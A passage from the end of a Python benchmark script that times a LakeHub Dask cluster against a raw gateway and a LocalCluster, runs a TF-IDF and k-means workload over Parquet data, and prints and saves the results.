        lh = lakehub.compute.dask(workers=2, client=sdk)
        lh.wait_for_workers(2, timeout=120)
        local_cluster = LocalCluster(
            n_workers=2,
            processes=True,
            threads_per_worker=1,
            memory_limit="2GiB",
            host="127.0.0.1",
            dashboard_address="127.0.0.1:0",
        )
        local = Client(local_cluster, set_as_default=False)
        try:
            clients = [("LakeHub", lh), ("LocalCluster", local)]
            for _, c in clients:
                warm(c)
            for r in range(args.runs):
                order = clients if r % 2 == 0 else clients[::-1]
                loads.append(os.getloadavg())
                line = []
                for label, c in order:
                    try:
                        res = workload(c, url, so)
                    except Exception as err:  # noqa: BLE001
                        problems.append(f"workload, {label}, run {r + 1}: {err!r}")
                        line.append(f"{label} failed")
                        continue
                    work[label].append(res)
                    line.append(f"{label} {res['seconds']:.1f} s ({res['rows_per_s']:,.0f} rows/s)")
                print(
                    f"  run {r + 1}/{args.runs} (load {loads[-1][0]:.2f}): " + " | ".join(line),
                    flush=True,
                )
        finally:
            with contextlib.suppress(Exception):
                local.close()
                local_cluster.close()
            with contextlib.suppress(Exception):
                stop_lakehub(lh, sdk)

    finally:
        if raw is not None:
            raw.stop()
        if (hub.data_dir / "run" / "runtime.json").exists():
            problems += hub.down() + reap(marker, 10)
        problems += reap(marker, 5)
        if not args.keep:
            shutil.rmtree(root, ignore_errors=True)

    # ------------------------------------------------------------------ tables
    print("\nrequest to first result: seconds from the request to the first result")
    cols = ["median", "min", "max"]
    lh_s, raw_s, loc_s = (B.summary(first[s]) for s in FIRST_STEPS)
    rows = [
        [
            label,
            str(s["n"]),
            *(B.fmt(s[c]) for c in cols),
            B.fmt(B.ratio(lh_s["median"], s["median"]), "x") if label != "LakeHub" else "",
        ]
        for label, s in zip(FIRST_STEPS, (lh_s, raw_s, loc_s), strict=True)
    ]
    print(B.table(["", "n", *cols, "LakeHub/this"], rows))
    print(f"goal: LakeHub <= 1.50 s (median {B.fmt(lh_s['median'], ' s')})")

    print("\nwhere the time goes (median seconds after the request, per side)")
    for label, wanted in FIRST_STEPS.items():
        srows = []
        for key, text in wanted:
            xs = [m[key] for m in steps[label] if key in m and m[key] == m[key]]
            srows.append([text, B.fmt(B.summary(xs)["median"]), str(len(xs))])
        print(f"{label}:")
        print(B.table(["step", "median", "n"], srows))
    phases = {}
    for label in ("LakeHub", "raw gateway"):
        ph: dict[str, list[float]] = {
            "request -> cluster running": [],
            "cluster running -> first worker registered": [],
            "first worker registered -> first result": [],
        }
        for m in steps[label]:
            if {"running", "worker_added", "result"} <= m.keys():
                ph["request -> cluster running"].append(m["running"])
                ph["cluster running -> first worker registered"].append(
                    m["worker_added"] - m["running"]
                )
                ph["first worker registered -> first result"].append(
                    m["result"] - m["worker_added"]
                )
        phases[label] = {k: B.summary(v)["median"] for k, v in ph.items()}
    print("\nphases (medians, seconds)")
    print(
        B.table(
            ["phase", "LakeHub", "raw gateway", "LakeHub - raw"],
            [
                [
                    k,
                    B.fmt(phases["LakeHub"][k]),
                    B.fmt(phases["raw gateway"][k]),
                    B.fmt(phases["LakeHub"][k] - phases["raw gateway"][k]),
                ]
                for k in phases["LakeHub"]
            ],
        )
    )

    print(
        f"\nworkload: TF-IDF ({N_FEATURES} hashed features) + k-means (k = "
        f"{', '.join(map(str, KS))}; {ITERATIONS} iterations each) over {args.rows} command "
        f"lines, {PARTS} Parquet files ({data_bytes / 1e6:.1f} MB) read from the lake; "
        "2 workers x 1 thread, 2 GiB each"
    )
    wl = {s: [x["rows_per_s"] for x in work[s]] for s in work}
    print(
        B.table(
            ["rows/s", "n", *cols],
            B.stats_rows(
                "LakeHub cluster", wl["LakeHub"], "anchor: LocalCluster", wl["LocalCluster"], cols
            ),
        )
    )
    pairs = zip(work["LakeHub"], work["LocalCluster"], strict=False)
    paired = B.summary([B.ratio(a["rows_per_s"], b["rows_per_s"]) for a, b in pairs])["median"]
    print(
        f"median of the per-run ratios (same run, same load): {B.fmt(paired, 'x')}"
        " (throughput: above 1, LakeHub's cluster is faster)"
    )
    prow = []
    for key, text in (
        ("vectorise_seconds", "read + TF-IDF"),
        ("kmeans_seconds", "k-means sweep"),
        ("seconds", "total"),
    ):
        a = B.summary([x[key] for x in work["LakeHub"]])["median"]
        b = B.summary([x[key] for x in work["LocalCluster"]])["median"]
        prow.append([text, B.fmt(a), B.fmt(b), B.fmt(B.ratio(a, b), "x")])
    print(B.table(["median seconds", "LakeHub", "LocalCluster", "ratio"], prow))
    if work["LakeHub"] and work["LocalCluster"]:
        ia, ib = work["LakeHub"][0]["inertia"], work["LocalCluster"][0]["inertia"]
        print(
            B.table(
                ["k", "inertia (LakeHub)", "inertia (LocalCluster)"],
                [[str(k), f"{ia[k]:.1f}", f"{ib[k]:.1f}"] for k in KS],
            )
        )
        for runs in work.values():
            for res in runs:
                for k in KS:
                    if abs(res["inertia"][k] - ia[k]) > 1e-6 * max(1.0, abs(ia[k])):
                        problems.append(
                            f"inertia for k={k} differs between runs or sides: "
                            f"{res['inertia'][k]} vs {ia[k]}"
                        )
                        break
    if bytecode:
        print(f"bytecode as built: {', '.join(f'{k} {v}' for k, v in bytecode.items())}")
    if NOISE["gateway_del"]:
        print(
            f"(dask_gateway.Gateway.__del__ failed {NOISE['gateway_del']} times after its loop"
            " stopped: not printed)"
        )
    print("load average at each run: " + ", ".join(f"{x[0]:.2f}" for x in loads))
    print()
    total = B.print_footer(started, info, problems, "problems")
    path = B.write_results(
        "dask",
        {
            "benchmark": "dask",
            "host": info,
            "args": vars(args),
            "versions": versions,
            "loadavg_runs": loads,
            "first_result_seconds": first,
            "bytecode_as_built": bytecode,
            "first_result_steps": steps,
            "phases": phases,
            "workload": work,
            "data_bytes": data_bytes,
            "workload_setup": {
                "parts": PARTS,
                "n_features": N_FEATURES,
                "ks": KS,
                "iterations": ITERATIONS,
                "sample_per_part": SAMPLE,
                "seed": SEED,
            },
            "problems": problems,
            "total_seconds": total,
        },
    )
    print(f"results: {path}")
    ok = all(len(first[s]) == args.runs for s in first) and all(
        len(work[s]) == args.runs for s in work
    )
    return 0 if ok and not problems else 1


if __name__ == "__main__":
    sys.exit(main())
